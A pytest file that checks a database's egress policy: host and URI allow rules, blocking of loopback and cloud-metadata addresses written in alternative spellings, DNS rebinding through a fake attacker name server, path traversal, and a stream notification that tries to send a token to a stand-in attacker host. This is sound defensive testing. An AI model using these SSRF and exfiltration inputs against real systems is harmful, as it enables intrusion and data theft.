"""What definitions of users may reach: rules of hosts, networks and URIs, addresses at the time of connecting, and folders."""

from __future__ import annotations

import itertools
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import headrace
from headrace.egress import EgressPolicy, Endpoint, EndpointKind, serves_only_this_machine
from headrace.errors import ConfigurationError, EgressDeniedError, ProgrammingError
from headrace.settings import load
from tests.security.names import Names

ADDRESS = "wss://user:b.example.org@A.example.com:8443/b/d?c"


def policy(egress: str = "", *, is_open: bool = False, **settings: Any) -> EgressPolicy:
    return EgressPolicy(load(egress=egress, **settings), lambda: is_open)


def notify(url: str) -> Endpoint:
    return Endpoint(EndpointKind.NOTIFY, url)


def allows(egress: str, target: str, kind: EndpointKind = EndpointKind.NOTIFY) -> bool:
    try:
        policy(egress).check(Endpoint(kind, target))
    except EgressDeniedError:
        return False
    return True


@pytest.mark.parametrize(
    ("rules", "is_allowed"),
    [
        ("*", True),
        ("none", False),
        ("", False),
        ("a.example.com", True),
        ("*.example.com", True),
        ("A.Example.com.:8443", True),
        ("a.example.com:443", False),
        ("example.com", False),
        ("b.example.com, a.example.com", True),
        ("notify=*.example.com", True),
        ("kafka=*.example.com", False),
        ("wss://a.example.com:8443/b", True),
        ("wss://*.example.com:8443/b/d/", True),
        ("wss://a.example.com:8443/b/d/e", False),
        ("wss://a.example.com/", False),
        ("ws://a.example.com:8443/", False),
        ("10.0.0.0/8", False),
    ],
)
def test_rules_are_hosts_with_or_without_a_port_and_beginnings_of_uris(rules: str, is_allowed: bool) -> None:
    assert allows(rules, ADDRESS) is is_allowed


@pytest.mark.parametrize("host", ["127.0.0.1", "2130706433", "0x7f.1", "127.1", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]"])
def test_every_spelling_of_an_address_is_that_address(host: str) -> None:
    assert not allows("*.example.com, 10.0.0.0/8", f"ws://{host}:80/")
    assert allows("127.0.0.0/8", f"ws://{host}:80/")
    assert allows("127.0.0.*:80", f"ws://{host}:80/")


@pytest.mark.parametrize(
    "host",
    [
        *("169.254.169.254", "2852039166", "[fe80::1]", "[::ffff:169.254.169.254]", "[fd00:ec2::254]"),
        *("100.100.100.200", "168.63.129.16", "0.0.0.0", "0", "[::]", "224.0.0.1"),
    ],
)
def test_addresses_of_links_and_of_metadata_are_never_allowed(host: str) -> None:
    for rules, is_open in {"*": False, f"{host}:80": False, "0.0.0.0/0, ::/0": False, "": True}.items():
        with pytest.raises(EgressDeniedError):
            policy(rules, is_open=is_open).check(notify(f"ws://{host}:80/"))
        with pytest.raises(EgressDeniedError):
            policy(rules, is_open=is_open).connect(notify(f"ws://{host}:80/"), 1)


@pytest.mark.parametrize("rule", ["mail=h", "https://u@h/", "https://host:port/", "a/b", "h:0", "h:99999", "https://h/?q"])
def test_a_rule_that_is_none_is_an_error_of_the_setting(rule: str) -> None:
    with pytest.raises(ConfigurationError, match="setting egress"):
        load(egress=rule)


def test_a_location_that_is_none_is_an_error_of_the_setting() -> None:
    with pytest.raises(ConfigurationError, match="setting external_locations"):
        load(external_locations="/data, gs://bucket/lake")


def test_what_is_no_address_is_an_error() -> None:
    for target in ("host", "ws://", "ftp://host/", "host:port", "ws://host/a/../b"):
        with pytest.raises(ProgrammingError):
            policy("*").check(notify(target))


# Addresses at the time of connecting


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Names:
    """Stand in for the name servers of an attacker."""
    names = Names()
    monkeypatch.setattr(socket, "getaddrinfo", names)
    return names


@pytest.fixture
def receiver() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server


def port_of(server: socket.socket) -> int:
    return int(server.getsockname()[1])


def test_a_name_that_begins_to_resolve_to_this_machine_leads_nowhere(names: Names, receiver: socket.socket) -> None:
    endpoint = Endpoint.at(EndpointKind.MQTT, "a.example.com", port_of(receiver))
    allowing = policy("*.example.com")
    allowing.check(endpoint)
    for address in ("127.0.0.1", "::1", "169.254.169.254", "0.0.0.0"):
        names.addresses["a.example.com"] = (address,)
        with pytest.raises(EgressDeniedError):
            allowing.connect(endpoint, 5)
    names.addresses["a.example.com"] = ("127.0.0.1",)
    with policy("*.example.com, 127.0.0.1").connect(endpoint, 5) as opened:
        assert opened.getpeername() == receiver.getsockname()


def test_only_addresses_that_are_allowed_are_tried(names: Names, receiver: socket.socket) -> None:
    names.addresses["a.example.com"] = ("169.254.169.254", "127.0.0.1")
    endpoint = Endpoint.at(EndpointKind.MQTT, "a.example.com", port_of(receiver))
    allowing = policy("a.example.com, 127.0.0.0/8")
    with allowing.connect(endpoint, 5) as opened:
        assert opened.getpeername() == receiver.getsockname()
    with pytest.raises(EgressDeniedError):
        allowing.resolve(endpoint, needs_all=True)


def test_networks_allow_names_by_their_addresses(names: Names) -> None:
    names.addresses |= {"inner": ("10.1.2.3",), "outer": ("192.0.2.1",)}
    policy("10.0.0.0/8").check(Endpoint(EndpointKind.KAFKA, "inner:9092"))
    names.addresses["linked"] = ("169.254.169.254",)
    messages = set()
    for host in ("outer", "linked", "missing.invalid"):
        with pytest.raises(EgressDeniedError) as refused:
            policy("10.0.0.0/8").check(Endpoint(EndpointKind.KAFKA, f"{host}:9092"))
        messages.add((refused.value.message.replace(host, ""), refused.value.hint))
    assert len(messages) == 1, "the error says which names there are"
    with pytest.raises(EgressDeniedError):
        policy("mqtt=10.0.0.0/8").check(Endpoint(EndpointKind.KAFKA, "inner:9092"))


def test_names_that_are_not_allowed_are_not_resolved(names: Names, monkeypatch: pytest.MonkeyPatch) -> None:
    del names
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: pytest.fail("a name was resolved"))
    with pytest.raises(EgressDeniedError):
        policy("*.example.com").check(notify("ws://secret-host.internal/"))
    with pytest.raises(EgressDeniedError):
        policy("*.example.com").connect(notify("ws://secret-host.internal/"), 5)


# The default


def test_the_default_is_open_while_root_is_alone(tmp_path: Path) -> None:
    endpoint, location = notify("ws://example.org/"), Endpoint(EndpointKind.LOCATION, str(tmp_path / "out"))
    with headrace.connect(tmp_path / "home", dialect="iotdb") as connection:
        context = connection.session.context
        for one in (endpoint, location):
            context.egress.check(one)
        connection.execute("CREATE USER user1 'secret12'")
        for one in (endpoint, location):
            with pytest.raises(EgressDeniedError, match="does not allow"):
                context.egress.check(one)


def test_notifications_of_streams_go_where_the_setting_allows_also_those_of_root(tmp_path: Path) -> None:
    with headrace.connect(tmp_path, dialect="tdengine") as root:
        for statement in (
            "CREATE DATABASE d",
            "USE d",
            "CREATE TABLE t (ts TIMESTAMP, a INT)",
            "CREATE USER user1 PASS 'secret12'",
        ):
            root.execute(statement)
        root.execute("GRANT ALL ON d.* TO user1")
        query = "INTO {} AS SELECT _wstart, count(*) AS n FROM d.t INTERVAL(1m)"
        notify = " NOTIFY('ws://attacker.example.net/x?token=t0') ON ('WINDOW_CLOSE')"
        root.execute(f"CREATE STREAM d.s {query.format('d.o')}")
        with headrace.connect(tmp_path, dialect="tdengine", user="user1", password="secret12") as user:
            statements = [f"CREATE STREAM d.s2 {query.format('d.o2')}", f"CREATE OR REPLACE STREAM d.s {query.format('d.o')}"]
            for connection, statement in itertools.product((root, user), statements):
                with pytest.raises(EgressDeniedError, match=r"notify at ws://attacker.example.net/") as refused:
                    connection.execute(statement + notify)
                assert "t0" not in str(refused.value)


def test_servers_beyond_loopback_end_the_default() -> None:
    assert serves_only_this_machine(load())
    assert serves_only_this_machine(load(http_host="localhost", doors="iotdb", door_host="::1"))
    assert serves_only_this_machine(load(door_host="0.0.0.0"))
    assert not serves_only_this_machine(load(http_host="0.0.0.0"))
    assert not serves_only_this_machine(load(doors="iotdb", door_host="db.example.com"))


def test_a_setting_limits_root_as_well() -> None:
    policy(is_open=True).check(notify("ws://a.example.com/"))
    with pytest.raises(EgressDeniedError):
        policy("none", is_open=True).check(notify("ws://a.example.com/"))


# Files and folders


def locations(tmp_path: Path, allowed: str = "", **settings: Any) -> EgressPolicy:
    return policy(home=tmp_path / "home", external_locations=allowed, **settings)


def test_locations_are_below_prefixes_once_links_are_resolved(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "data")
    (data / "out").symlink_to(tmp_path / "elsewhere")
    allowing = locations(tmp_path, f"{tmp_path}/link/, s3://bucket/lake")
    assert allowing.location(f"{data}/plant") == f"{data}/plant"
    assert allowing.location(f"file://{data}/a%20b") == f"{data}/a b"
    assert allowing.location(f"FILE:{tmp_path}/link/plant") == f"{data}/plant"
    assert allowing.location("s3a://bucket/lake/./plant/") == "s3://bucket/lake/plant"
    for text in (
        *(f"{tmp_path}/data2", f"{data}/../data2", f"{data}/out", f"file://{data}/%2e%2e/data2", str(tmp_path), "/"),
        *("s3://bucket/lakes", "s3://bucket", "s3://bucket2/lake"),
    ):
        with pytest.raises(EgressDeniedError, match="HEADRACE_EXTERNAL_LOCATIONS"):
            allowing.location(text)
    for text in ("", "a\0b", "file://host/data", "s3://bucket/lake/../x", "s3://bucket/lake/%2e%2e/x", "gs://bucket/lake"):
        with pytest.raises(ProgrammingError):
            allowing.location(text)


def test_home_warehouse_and_code_are_never_among_them(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(tmp_path / "home")
    settings = {"warehouse": f"{tmp_path}/tables", "udf_folder": tmp_path / "udf", "code_source_folders": f"{tmp_path}/code"}
    for allowed, is_open in {"/": False, "": True}.items():
        loaded = load(home=tmp_path / "home", external_locations=allowed, **settings)
        deciding = EgressPolicy(loaded, [lambda: False, lambda: True][is_open])
        deciding.location(f"{tmp_path}/out")
        for name in ("home", "home/x", "link/secret.key", "tables/d/t", "udf/x", "code/y", "."):
            with pytest.raises(EgressDeniedError, match="does not allow files and folders"):
                deciding.location(f"{tmp_path}/{name}")
    store = EgressPolicy(load(warehouse="s3a://bucket/house", external_locations="s3://bucket"), lambda: False)
    assert store.location("s3://bucket/lake") == "s3://bucket/lake"
    for text in ("s3://bucket/house/d", "s3://bucket"):
        with pytest.raises(EgressDeniedError):
            store.location(text)
